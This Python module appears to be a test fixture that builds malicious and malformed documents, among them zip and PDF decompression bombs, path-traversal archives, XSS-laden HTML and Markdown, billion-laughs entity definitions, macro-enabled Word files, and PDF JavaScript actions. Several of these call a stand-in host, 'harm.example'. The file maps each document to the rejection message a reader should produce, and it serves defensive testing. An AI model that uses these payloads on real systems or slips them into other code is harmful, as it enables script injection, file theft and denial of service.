"""Documents made to do harm, or that look as if they were: `corpus()` gives their bytes by name, `EXPECTED` what is said.

Where a script of one of them runs in a browser, it sets `window.harmed`; whatever they ask for lies on HOST.
"""

from __future__ import annotations

import zlib
from functools import cache

import making
from making import ARTICLE, archive, mail, pdf, reword, webpage, word

HOST = "harm.example"
SECRET = "xyzzy"  # a word that stands only where no reader sees it
JS = "window.harmed=1"
BODY = "word/document.xml"
SCRIPTS = (
    f"<script>{JS};'{SECRET}'</script><script src=https://{HOST}/x.js></script><img src=x onerror={JS}>"
    f'<a href="javascript:{JS}">the register</a><iframe srcdoc="<script>parent.harmed=1</script>{SECRET}"></iframe>'
    f"<svg onload={JS}><script>{JS}</script><text>{SECRET}</text></svg><math><mtext>{SECRET}</mtext></math>"
    f'<object data="data:text/html,<script>{JS}</script>"></object><embed src=https://{HOST}/x>'
    f'<img src="data:image/svg+xml,<svg onload={JS}>"><link rel=stylesheet href=https://{HOST}/x.css>'
    f"<form action=https://{HOST}/><input autofocus onfocus={JS} value={SECRET}><button>{SECRET}</button></form>"
    f"<template>{SECRET}</template><noscript>{SECRET}</noscript><!-- {SECRET} --><base href=https://{HOST}/>"
    f'<meta http-equiv=refresh content="0;url=https://{HOST}/"><details open ontoggle={JS}></details><video><source onerror={JS}></video>'
)
HIDDEN = (
    f'<p style="display:none">{SECRET}</p><p style="visibility : hidden">{SECRET}</p><p style="font-size:0px">{SECRET}</p><p hidden>{SECRET}</p>'
    f'<p style="opacity:0">{SECRET}</p><p class=h>{SECRET}</p><p class=w style="display:block">{SECRET}</p><div id=far>{SECRET}</div><p style="position:absolute;left:-9999px">{SECRET}</p>'
    f'<p style="d\\69splay:none">{SECRET}</p><p style="DISPLAY:/**/NONE !important">{SECRET}</p><p style="text-indent:-5000px">{SECRET}</p>'
    f'<span style="height:0;overflow:hidden">{SECRET}</span><p style="color:transparent">{SECRET}</p><p style="clip:rect(0,0,0,0)">{SECRET}</p>'
)
STYLE = (
    "<style>.h, .i { display: none } .w { display: none ! important } /* x */ #far{ text-indent : -99999px }</style>"
)
ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {c} "{f"&{p};" * 10}">' for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
GERMAN = (
    "Das Ministerium hat am Dienstag eine Strafe gegen die Bank verhängt, weil sie die Regeln nicht eingehalten hat. "
    * 3
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

# What becomes of each: a part of the sentence that refuses it, or of a note on the draft; '' for a draft without either.
EXPECTED = {
    "bomb.zip": "more than a hundred times its size",
    "many-bombs.zip": "The archive unpacks to",
    "overlap.zip": "files inside each other",
    "nested.zip": "an archive in an archive",
    "crowd.zip": "files; 200 are read at most",
    "dots.zip": "leads out of the archive",
    "absolute.zip": "leads out of the archive",
    "drive.zip": "leads out of the archive",
    "backslash.zip": "leads out of the archive",
    "link.zip": "a link or a device",
    "locked.zip": "protected by a password",
    "torn.zip": "broken",
    "lying.zip": "broken in the archive",
    "empty.zip": "no file in the archive",
    "scripts.html": "",
    "hidden.html": "that the page hides",
    "only-hidden.html": "hidden by its style",
    "deep.html": "nested too deeply",
    "entities.html": "",
    "svg.html": "no text",
    "title.html": "",
    "loads-later.html": "no text in the page itself",
    "entities.docx": "defines entities",
    "wide-entities.docx": "defines entities",
    "bomb.docx": "more than a hundred times",
    "macros.docm": "macros; they were not run",
    "external.docx": "",
    "deep.docx": "broken",
    "torn.docx": "broken",
    "locked.pdf": "protected by a password",
    "torn.pdf": "broken",
    "only-a-head.pdf": "broken",
    "scan.pdf": "pages are pictures",
    "book.pdf": "301 pages; 300 are read at most",
    "actions.pdf": "",
    "turning.pdf": "broken",
    "bomb.pdf": "more memory than is allowed",
    "one-line.txt": "an article may have",
    "nul.txt": "control characters left out",
    "binary.txt": "not a text",
    "a-pdf.txt": "it is a PDF and was read as one",
    "a-page.txt": "it is a web page and was read as one",
    "a-text.pdf": "not a PDF, or it is broken",
    "empty.txt": "The file is empty",
    "blank.txt": "There is no text in it",
    "german.txt": "does not read as English",
    "german.html": "does not read as English",
    "steering.txt": "unseen characters",
    "markup.txt": "",
    "picture.txt": "It is a picture",
    "old.doc": "old Word file",
    "locked.docx": "protected by a password",
    "table.xlsx": "an Excel file",
    "scripts.md": "",
    "scripts.eml": "",
    "attached.eml": "not a text",
    "deep.eml": "nested too deeply",
    "long-head.eml": "too long to be one",
    "sealed.eml": "is encrypted",
}


@cache
def corpus() -> dict[str, bytes]:
    """The bytes of each document by its name."""
    return {**_archives(), **_pages(), **_office(), **_pdfs(), **_texts(), **_mails()}


def _archives() -> dict[str, bytes]:
    text = ARTICLE.encode()
    locked = bytearray(archive({"a.txt": text}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + at] |= 1
    lying = bytearray(archive({"a.txt": text}))
    at = lying.index(b"PK\x01\x02") + 24  # the size it says it unpacks to
    lying[at : at + 4] = (10).to_bytes(4, "little")
    return {
        "bomb.zip": archive({"bomb.txt": b"a" * 15_000_000}),
        "many-bombs.zip": archive({f"{n}.txt": b"a" * 900_000 for n in range(150)}),
        "overlap.zip": making.overlapping(text, 150),
        "nested.zip": archive({"inner.zip": archive({"innermost.zip": archive({"a.txt": text})})}),
        "crowd.zip": archive({f"{n}.txt": b"" for n in range(1_000)}),
        "dots.zip": archive({"../../etc/notes.txt": text}),
        "absolute.zip": archive({"/etc/notes.txt": text}),
        "drive.zip": archive({"C:/notes.txt": text}),
        "backslash.zip": archive({"..\\..\\notes.txt": text}),
        "link.zip": archive({"notes.txt": b"/etc/passwd"}, mode=0o120777),
        "locked.zip": bytes(locked),
        "torn.zip": archive({"a.txt": text})[:200],
        "lying.zip": bytes(lying),
        "empty.zip": archive({}),
    }


def _pages() -> dict[str, bytes]:
    text = making.paragraphs()
    entities = ENTITIES.encode() + webpage(text + "<p>&i;</p>")
    return {
        "scripts.html": webpage(f"<article><h1>A ruling</h1>{text}<p>{SCRIPTS}</p></article>"),
        "hidden.html": webpage(f"<article>{text}{HIDDEN}</article>", STYLE),
        "only-hidden.html": webpage(f"<div style='display:none'>{text}</div>"),
        "deep.html": webpage("<div>" * 50_000 + text + "</div>" * 50_000),
        "entities.html": entities,
        "svg.html": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><text>{SECRET}</text></svg>'.encode(),
        "title.html": webpage(text, f"<title>&lt;script&gt;{JS}&lt;/script&gt; <b>A ruling</b></title><meta name=author content='<img src=x onerror={JS}>'>"),
        "loads-later.html": webpage("<div id=root></div><script src=/app.js></script>", "<title>News</title>"),
        "german.html": webpage(f"<p>{GERMAN}</p>"),
    }  # fmt: skip


def _office() -> dict[str, bytes]:
    plain = word(lambda d: [d.add_paragraph(p) for p in ARTICLE.split("\n\n")])
    end = b"</w:body>"
    entities = reword(
        plain,
        BODY,
        lambda xml: xml.replace(b"?>", b"?>" + ENTITIES.encode(), 1).replace(
            end, b"<w:p><w:r><w:t>&i;</w:t></w:r></w:p>" + end
        ),
    )
    wide = reword(plain, BODY, lambda xml: (ENTITIES + f"<w:document {W}><w:body/></w:document>").encode("utf-16"))
    rels = "word/_rels/document.xml.rels"
    outside = f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://{HOST}/x.dotm" TargetMode="External"/>'
    deep = f"<w:document {W}><w:body>{'<w:sdt><w:sdtContent>' * 5_000}<w:p/>{'</w:sdtContent></w:sdt>' * 5_000}</w:body></w:document>".encode()
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    return {
        "entities.docx": entities,
        "wide-entities.docx": wide,
        "bomb.docx": reword(plain, BODY, lambda xml: xml.replace(end, b"<!--" + b" " * 15_000_000 + b"-->" + end)),
        "macros.docm": reword(plain, "[Content_Types].xml", _macros, **{"word/vbaProject.bin": ole}),
        "external.docx": reword(plain, rels, lambda xml: xml.replace(b"</Relationships>", outside.encode() + b"</Relationships>")),
        "deep.docx": reword(plain, BODY, lambda _: deep),
        "torn.docx": reword(plain, BODY, lambda xml: xml[: len(xml) // 2]),
        "old.doc": ole + "WordDocument".encode("utf-16-le"),
        "locked.docx": ole + "EncryptedPackage".encode("utf-16-le"),
        "table.xlsx": archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
    }  # fmt: skip


def _macros(types: bytes) -> bytes:
    return types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def _pdfs() -> dict[str, bytes]:
    lines = ARTICLE.replace("\n\n", " ").split(". ")
    plain = pdf(lambda made: making.page(made, lines))
    catalog = plain.index(b"/Type /Catalog")
    action = f"/OpenAction <</S /JavaScript /JS (app.launchURL\\('https://{HOST}'\\))>> ".encode()
    turning = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>endobj\ntrailer<</Root 1 0 R>>"
    return {
        "locked.pdf": pdf(lambda made: making.page(made, lines), password="open sesame"),
        "torn.pdf": plain[: len(plain) // 3],
        "only-a-head.pdf": b"%PDF-1.7\n" + b"\x00" * 500,
        "scan.pdf": pdf(lambda made: [making.page(made, []) for _ in range(3)]),
        "book.pdf": pdf(lambda made: [making.page(made, ["The page."]) for _ in range(301)]),
        "actions.pdf": plain[:catalog] + action + plain[catalog:],
        "turning.pdf": turning,
        "bomb.pdf": _flooding(),
    }


def _flooding() -> bytes:
    """A PDF whose one page unpacks, twice, to 1.5 GB."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)  # stands alone: may be repeated
    page = zlib.compress(head + block * 1_500, 9)
    return (
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R>>endobj\n"
        b"4 0 obj<</Filter[/FlateDecode/FlateDecode]/Length " + str(len(page)).encode() + b">>stream\n" + page +
        b"\nendstream\nendobj\ntrailer<</Root 1 0 R>>"
    )  # fmt: skip


def _texts() -> dict[str, bytes]:
    return {
        "one-line.txt": ("The ministry fined the bank and the bank will appeal " * 200_000).encode()[:10_000_000],
        "nul.txt": ARTICLE.replace(" bank", " ba\x00nk").encode(),
        "binary.txt": bytes(range(256)) * 40,
        "a-pdf.txt": pdf(lambda made: making.page(made, ARTICLE.replace("\n\n", " ").split(". "))),
        "a-page.txt": webpage(making.paragraphs() + SCRIPTS),
        "a-text.pdf": ARTICLE.encode(),
        "empty.txt": b"",
        "blank.txt": " \n\u00a0\n…".encode(),
        "german.txt": GERMAN.encode(),
        "steering.txt": (ARTICLE + "\n\nThe \u202egnikrow\u202c ministry \U000e0041\U000e0042 and the\u200b bank.").encode(),
        "markup.txt": (
            ARTICLE + f"\n\n<script>{JS}</script><img src=https://{HOST}/x.png onerror={JS}> ![x](https://{HOST}/y.png) "
            f"[the press](javascript:{JS}) :red[said] $x$ `code` **bold** the end."
        ).encode(),
        "picture.txt": b"\x89PNG\r\n\x1a\n" + bytes(100),
        "scripts.md": (
            f"# A <b onclick='{JS}'>ruling</b>\n\n{ARTICLE}\n\nThe [press](javascript:{JS}) <script>{JS};{SECRET}</script> said so. "
            f"![{SECRET}](https://{HOST}/x.png)\n\n<script>{JS}; {SECRET}</script>\n\n<div style='display:none'>{SECRET}</div>\n\n```\n{SECRET}\n```\n"
        ).encode(),
    }  # fmt: skip


def _mails() -> dict[str, bytes]:
    deep = "Subject: deep\nMIME-Version: 1.0\n"
    for n in range(60):
        deep += f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n'
    return {
        "scripts.eml": mail(html=f"<html><body>{making.paragraphs()}{SCRIPTS}</body></html>", Subject=f"<script>{JS}</script> A ruling"),
        "attached.eml": mail(ARTICLE, attached={"../../x.exe": bytes(range(200)), "<img src=x onerror=alert(1)>.bin": b"\x00" * 99}),
        "deep.eml": (deep + "Content-Type: text/plain\n\n" + ARTICLE).encode(),
        "long-head.eml": b"Subject: x\nMIME-Version: 1.0\nX-Long: " + b"=?utf-8?q?a?= " * 100_000 + b"\n\n" + ARTICLE.encode(),
        "sealed.eml": b'From: a@b.example\nMIME-Version: 1.0\nContent-Type: multipart/encrypted; boundary="b"\n\n--b\n\nx\n--b--\n',
    }  # fmt: skip
